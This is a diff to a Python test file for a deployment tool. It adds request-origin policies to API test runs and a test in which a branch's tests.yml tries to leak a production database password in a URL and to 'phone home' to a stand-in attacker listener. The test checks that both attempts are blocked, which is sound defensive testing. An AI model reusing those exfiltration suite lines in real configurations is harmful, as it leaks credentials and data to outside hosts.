@@ -14,15 +14,17 @@ from pydantic import ValidationError
 from ruamel.yaml import YAML
 
 from deployer.apitest_files import SuiteFileError, suites_parse
+from deployer.apitest_network import RequestPolicy
 from deployer.apitest_runs import environment_test, monitors_due
 from deployer.apitest_schema import SuiteSpec
 from deployer.apitests import SuiteResult, suite_run
 from deployer.catalog import CatalogError, catalog_parse
 from deployer.choices import DeployStatus
 from deployer.demo import setup
-from deployer.models import ApiTestRun, Environment
+from deployer.models import ApiTestRun, ApiTestStep, Environment
 from tests.conftest import AppRepo, MakeEnvironment, wait_until
 from tests.fakes.server import FakeServer, Request, Response
+from tests.support.listener import Listener
 from tests.support.worker import Worker
 from tests.test_rollout import deploy_and_wait, host_root
 
@@ -64,7 +66,9 @@ def suite(text: str) -> SuiteSpec:
 
 
 def run(app: App, text: str, **variables: str) -> SuiteResult:
-    return suite_run("t", suite(text), {"base_url": app.url, **variables})
+    return suite_run(
+        "t", suite(text), {"base_url": app.url, **variables}, policy=RequestPolicy.of("app/test", [app.url])
+    )
 
 
 def test_steps_chain_through_extracted_variables(app: App) -> None:
@@ -298,6 +302,39 @@ def test_the_repository_suites_at_the_deployed_sha_win_over_the_catalog(
     assert step.error == (
         ".gantry/tests.yml:6: smoke.steps[0].assert[0].contain: unknown key 'contain'; did you mean 'contains'?"
     )
+
+
+@pytest.mark.slow
+def test_a_deployed_branch_cannot_send_a_worker_secret_or_anything_elsewhere(
+    make_environment: MakeEnvironment,
+    celery_worker: Worker,
+    deployer: AbstractBaseUser,
+    app_port: int,
+    app_repo: AppRepo,
+) -> None:
+    evil = Listener().start()
+    steal = """secrets:
+  steps:
+    - {name: steal, url: "{{base_url}}/version?k={{secret.PROD_DB_PASSWORD}}"}
+elsewhere:
+  steps:
+    - {name: phone home, url: "EVIL/?sha={{sha}}"}
+""".replace("EVIL", evil.url)
+    setup.repo_branch(app_repo.path, "steal", {".gantry/tests.yml": steal}, "Just some tests")
+    environment = make_environment(hosts=None, options={"host_base_url": f"http://{{address}}:{app_port}"})
+
+    deploy = deploy_and_wait(environment, "steal", deployer, celery_worker)
+
+    assert deploy.status == DeployStatus.TESTS_FAILED, deploy.reason
+    errors = {run.suite: run.steps.get().error for run in deploy.api_test_runs.all() if run.target == "environment"}
+    assert errors["secrets"] == (
+        "suite secrets from .gantry/tests.yml: it uses secret.PROD_DB_PASSWORD, which app/test does not grant; "
+        "add PROD_DB_PASSWORD to api_test_secrets of environment test in the catalog"
+    )
+    steps = ApiTestStep.objects.filter(run__deploy=deploy, run__suite="elsewhere")
+    assert all(step.error.startswith(f"not sent: {evil.url} is not an origin") for step in steps)
+    assert (evil.connections, evil.received) == (0, b"")
+    evil.stop()
 
 
 def test_a_tests_file_that_is_not_yaml_or_not_suites_is_refused_with_a_line() -> None:
